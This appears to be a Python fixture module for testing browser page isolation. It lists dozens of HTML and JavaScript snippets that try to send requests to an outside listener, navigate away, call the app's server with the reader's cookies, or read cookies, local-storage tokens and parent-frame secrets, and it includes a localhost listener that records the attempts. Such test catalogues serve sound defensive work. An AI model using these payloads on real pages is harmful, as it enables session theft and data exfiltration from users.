"""Pages that try to get out, and the listeners that would hear of it.

Every page tries one way, under its own name: `away` stands for a listener on another port and host, `app` for the server
that shows the page. Each is seen to work where nothing holds it (see test_isolation.py), so that a test can fail.
"""

import contextlib
import socket
import ssl
import threading

REQUESTS = {
    # requests by script
    "fetch": "fetch('{away}')",
    "fetch-no-cors": "fetch('{away}', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{away}'); x.send()",
    "beacon": "navigator.sendBeacon('{away}', 'x')",
    "websocket": "new WebSocket('{away}'.replace('http', 'ws'))",
    "eventsource": "new EventSource('{away}')",
    "import": "import('{away}').catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('{away}')`])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('{away}')`])))",
    "worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('{away}')`])))",
    "audio-worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('{away}').catch(() => 0)",
    "image-object": "new Image().src = '{away}'",
    "font-face": "new FontFace('x', 'url({away})').load().catch(() => 0)",
    "import-map": '<script type=importmap>{"imports": {"x": "{away}"}}</script><script type=module>import("x")</script>',
    "paint-worklet": "CSS.paintWorklet.addModule('{away}').catch(() => 0)",
    "payment": "new PaymentRequest([{supportedMethods: '{away}'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})"
    ".canMakePayment().catch(() => 0)",
    "webtransport": "new WebTransport('{away}'.replace('http:', 'https:')).closed.catch(() => 0)",
    "ping": "a = document.body.appendChild(document.createElement('a')); a.href = '#x'; a.ping = '{away}'; a.click()",
    # requests by markup
    "img": "<img src='{away}'>",
    "srcset": "<img srcset='{away} 1x'>",
    "input-image": "<input type=image src='{away}'>",
    "body-background": "<body background='{away}'>",
    "poster": "<video poster='{away}'></video>",
    "video": "<video src='{away}' autoplay muted></video>",
    "audio": "<audio src='{away}' preload=auto></audio>",
    "svg-image": "<svg width=9 height=9><image href='{away}' width=9 height=9 /></svg>",
    "script": "<script src='{away}'></script>",
    "stylesheet": "<link rel=stylesheet href='{away}'>",
    "css-url": "<p style='background: url({away})'>x</p>",
    "css-image-set": "<p style=\"background: image-set('{away}' 1x)\">x</p>",
    "css-mask": "<p style='mask: url({away})'>x</p>",
    "css-cursor": "<p style='cursor: url({away}), auto'>x</p>",
    "css-import": "<style>@import '{away}';</style>",
    "css-font": "<style>@font-face { font-family: f; src: url({away}) } p { font-family: f }</style><p>x</p>",
    "prefetch": "<link rel=prefetch href='{away}'>",
    "preload": "<link rel=preload as=image href='{away}'>",
    "dictionary": "<link rel=compression-dictionary href='{away}'>",
    "modulepreload": "<link rel=modulepreload href='{away}'>",
    "iframe": "<iframe src='{away}'></iframe>",
    "base": "<base href='{away}/'><img src=y>",
    "object": "<object data='{away}'></object>",
    "embed": "<embed src='{away}'>",
    "srcdoc": "<iframe srcdoc=\"<img src='{away}'>\"></iframe>",
    "data-document": "<iframe src=\"data:text/html,<img src='{away}'>\"></iframe>",
    "blob-document": "f = document.body.appendChild(document.createElement('iframe')); "
    "f.src = URL.createObjectURL(new Blob([`<img src='{away}'>`], {type: 'text/html'}))",
    "javascript-link": "<a id=a href=\"javascript:void fetch('{away}')\">x</a><script>a.click()</script>",
    "javascript-frame": "<iframe src=\"javascript:fetch('{away}')\"></iframe>",
    "sanitized-away": "<svg><style><img src='{away}'></style></svg><noscript><p title='</noscript><img src={away}>'></noscript>",
    "blank-frame": "f = document.body.appendChild(document.createElement('iframe')); "
    "f.contentWindow.fetch('{away}', {mode: 'no-cors'})",
}
"""Ways to another server that leave the page where it is."""

LEAVING = {
    "meta-refresh": "<meta http-equiv=refresh content='0; url={away}'>",
    "location": "location = '{away}'",
    "location-replace": "setTimeout(() => location.replace('{away}'), 50)",
    "link-click": "<a id=a href='{away}'>x</a><script>HTMLAnchorElement.prototype.click.call(a)</script>",
    "link-blank": "<a id=a href='{away}' target=_blank>x</a><script>a.click()</script>",
    "form": "<form id=f action='{away}'></form><script>f.submit()</script>",
    "form-post": "<form id=f action='{away}' method=post><button id=b></button></form><script>b.click()</script>",
    "form-blank": "<form id=f action='{away}' target=_blank></form><script>f.submit()</script>",
    "window-open": "open('{away}')",
    "window-open-blank": "open('about:blank')?.fetch('{away}', {mode: 'no-cors'})",
    "download": "<a id=a href='{away}' download=x.html>x</a><script>a.click()</script>",
    "area": "<map name=m><area id=a href='{away}'></map><img usemap='#m'><script>a.click()</script>",
    "blob-tab": "open(URL.createObjectURL(new Blob([`<img src='{away}'>`], {type: 'text/html'})))",
    "blob-location": "location = URL.createObjectURL(new Blob([`<img src='{away}'>`], {type: 'text/html'}))",
    "javascript-location": "location = `javascript:'<img src={away}>'`",
    "document-write": "setTimeout(() => { document.open(); document.write(`<img src='{away}'>`); document.close() }, 50)",
    "history": "history.pushState(0, '', '#x'); location.hash = 'y'; setTimeout(() => location.assign('{away}'), 50)",
    # Only a browser with a profile on disk connects ahead; a private window does not.
    "preconnect": "<link rel=preconnect href='{away}'>",
    # WebRTC is not a navigation, but just as little a request that a content policy knows of.
    "stun": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{address}'}]}); p.createDataChannel('x'); "
    "p.createOffer().then(o => p.setLocalDescription(o))",
    "turn-tcp": "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{address}?transport=tcp', username: 'x', "
    "credential: 'x'}], iceTransportPolicy: 'relay'}); p.createDataChannel('x'); "
    "p.createOffer().then(o => p.setLocalDescription(o))",
}
"""Ways to another server that a content policy alone leaves open, in a frame or in a tab."""

AHEAD = {
    "speculation-prefetch": "<script type=speculationrules>"
    '{"prefetch": [{"source": "list", "urls": ["{away}"], "eagerness": "immediate"}]}</script>',
    "speculation-prerender": "<script type=speculationrules>"
    '{"prerender": [{"source": "list", "urls": ["{away}"], "eagerness": "immediate"}]}</script>',
}
"""What a browser fetches before anybody goes there: for a tab that is seen, not for a frame, and not in a private window."""

APP = {
    "api-fetch": "fetch('{app}', {method: 'POST', credentials: 'include'})",
    "api-no-cors": "fetch('{app}', {method: 'POST', mode: 'no-cors', credentials: 'include'})",
    "api-xhr": "const x = new XMLHttpRequest(); x.open('DELETE', '{app}'); x.send()",
    "api-img": "<img src='{app}'>",
    "api-websocket": "new WebSocket('{app}'.replace('http', 'ws'))",
    "api-form": "<form id=f action='{app}' method=post></form><script>f.submit()</script>",
    "api-frame": "<iframe src='{app}'></iframe>",
    "api-worker": "new Worker('{app}')",
    "api-service-worker": "navigator.serviceWorker.register('{app}', {scope: './'})",
    "api-location": "location = '{app}'",
}
"""Ways to the app's own server, with the reader's cookies."""

TAKE = {
    "own-cookie": "document.cookie",
    "local-storage": "localStorage.token",
    "parent-cookie": "parent.document.cookie",
    "parent-dom": "parent.document.body.dataset.secret",
    "parent-variable": "parent.secret",
    "top-dom": "top.document.body.dataset.secret",
    "frame-element": "frameElement.ownerDocument.body.dataset.secret",
}
"""What a page in a frame might read of the app's. All of these values contain "secret"."""

TAKE_FROM_OPENER = {
    "own-cookie": "document.cookie",
    "local-storage": "localStorage.token",
    "opener-cookie": "opener.document.cookie",
    "opener-dom": "opener.document.body.dataset.secret",
    "opener-variable": "opener.secret",
}
"""The same for a page that the app opened in a tab."""


def write_page(attack: str, away: str = "", app: str = "", address: str = "") -> str:
    """A page that tries `attack` (markup, or script) after it has said in the console that it runs."""
    attack = attack.replace("{away}", away).replace("{app}", app).replace("{address}", address)
    markup = (
        attack
        if attack.startswith("<")
        else f"<script>try {{ {attack} }} catch (e) {{ console.log('no', e) }}</script>"
    )
    return f"<!DOCTYPE html><html><head><title>x</title></head><body><script>console.log('runs')</script>{markup}</body></html>"


class Listener:
    """Listens on a port of 127.0.0.1, TCP and UDP, answers every HTTP request with 200, and notes what it hears.

    `heard` has the first line of each request, "connected" for each connection, and "datagram" for each datagram.
    """

    def __init__(self, tls: ssl.SSLContext | None = None) -> None:
        self.heard: list[str] = []
        self._tls = tls
        self._tcp, self._udp = self._bind()
        self.port: int = self._tcp.getsockname()[1]
        for loop in (self._accept, self._receive):
            threading.Thread(target=loop, daemon=True).start()

    @property
    def requests(self) -> list[str]:
        """The paths that were asked for."""
        return [line.split("/")[1].split()[0] for line in self.heard if " /" in line]

    def _bind(self) -> tuple[socket.socket, socket.socket]:
        while True:
            tcp, udp = socket.create_server(("127.0.0.1", 0)), socket.socket(type=socket.SOCK_DGRAM)
            try:
                udp.bind(tcp.getsockname())
            except OSError:  # somebody else has that number
                tcp.close()
                udp.close()
            else:
                return tcp, udp

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.heard.append("connected")
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        body = b"ok"
        head = f"Content-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: {len(body)}\r\nConnection: close"
        try:
            connection.settimeout(30)
            if self._tls is not None:
                connection = self._tls.wrap_socket(connection, server_side=True)
            with connection:
                line = connection.recv(65_536).split(b"\r\n")[0].decode("ascii", "replace")
                if line:
                    self.heard.append(line)
                    connection.sendall(f"HTTP/1.1 200 OK\r\n{head}\r\n\r\n".encode() + body)
        except OSError:
            pass

    def _receive(self) -> None:
        while True:
            try:
                self._udp.recvfrom(2048)
            except OSError:
                return
            self.heard.append("datagram")

    def close(self) -> None:
        for sock in (self._tcp, self._udp):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()
